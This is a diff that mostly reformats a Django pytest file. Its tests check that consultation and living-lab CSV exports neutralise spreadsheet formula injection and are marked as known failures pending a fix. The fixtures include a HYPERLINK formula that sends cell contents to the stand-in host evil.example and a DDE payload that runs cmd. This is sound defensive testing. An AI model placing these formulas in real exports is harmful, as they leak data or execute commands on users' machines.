@@ -10,10 +10,19 @@ from django.urls import reverse
 
 pytestmark = pytest.mark.django_db
 
-FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Cliquez")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
-KNOWN = pytest.mark.xfail(strict=True, reason=(
-    "CSV formula injection not neutralised yet: consult/exports.py csv_stream and livinglabs/exports.py rows_to_csv "
-    "write user text as is (reported to the lead; remove this marker once fixed)"))
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+KNOWN = pytest.mark.xfail(
+    strict=True,
+    reason=(
+        "CSV formula injection not neutralised yet: consult/exports.py csv_stream and livinglabs/exports.py rows_to_csv "
+        "write user text as is (reported to the lead; remove this marker once fixed)"
+    ),
+)
 
 
 def dangerous(cell: str) -> bool:
@@ -23,7 +32,9 @@ def dangerous(cell: str) -> bool:
 @KNOWN
 def test_consultation_csv_export_neutralises_formulas(client, section, contribution_factory, alice):
     for formula in FORMULAS:
-        contribution_factory(alice, section, body=formula + " et voici mon avis argumenté sur la section.")
+        contribution_factory(
+            alice, section, body=formula + " et voici mon avis argumenté sur la section."
+        )
     response = client.get(reverse("consult:export", args=[section.page_id, "csv"]))
     assert response.status_code == 200
     assert response["Content-Disposition"].startswith("attachment")
@@ -34,7 +45,7 @@ def test_consultation_csv_export_neutralises_formulas(client, section, contribut
 
 @KNOWN
 def test_living_lab_csv_export_neutralises_formulas(client, lab_factory):
-    lab_factory(title="=HYPERLINK(\"https://evil.example\")", description="@SUM(1+1) description")
+    lab_factory(title='=HYPERLINK("https://evil.example")', description="@SUM(1+1) description")
     response = client.get(reverse("livinglabs:export", args=["csv"]))
     assert response.status_code == 200
     content = response.content if not response.streaming else b"".join(response.streaming_content)
